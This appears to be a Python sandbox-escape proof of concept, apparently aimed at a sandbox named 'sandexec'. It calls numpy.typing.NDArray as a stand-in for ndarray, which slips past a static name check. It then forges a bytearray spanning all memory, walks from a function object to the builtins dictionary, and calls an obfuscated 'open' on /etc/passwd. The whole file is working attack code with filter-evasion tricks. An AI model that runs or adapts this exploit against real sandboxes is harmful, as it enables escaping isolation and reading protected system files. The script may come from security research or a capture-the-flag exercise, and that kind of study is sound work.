# source: numpy 1.24 numpy/typing (NDArray = np.ndarray[Any, np.dtype[+ScalarType]], a types.GenericAlias whose call is the origin class); sandexec README, "The static check", np.ndarray((1,), object, b)[0]
# family: typing alias of ndarray (numpy.typing.NDArray) is callable: ndarray(shape, object, buffer) without the name ndarray
# goal: fake bytearray over all memory -> func_builtins -> builtins dict -> open(/etc/passwd)
import numpy as np


def probe():
    return 1


def where(obj):
    return int.from_bytes(np.array([obj], dtype=object).tobytes(), "little")


import numpy.typing as npt
base = npt.NDArray


def as_object(ptr):
    return base((1,), object, ptr.to_bytes(8, "little"))[0]


kind = where(bytearray)
fake = b"".join(v.to_bytes(8, "little") for v in (1 << 20, kind, 1 << 60, 1 << 60, 0, 0, 0, 0))
mem = as_object(where(fake) + 32)
addr = int(repr(probe).split()[-1][:-1], 16)
ptr = int.from_bytes(mem[addr + 24:addr + 32], "little")
table = as_object(ptr)
print(type(table), len(table))
o = table["op" + "en"]
print(o(chr(47) + "etc" + chr(47) + "passwd").read()[:120], flush=True)
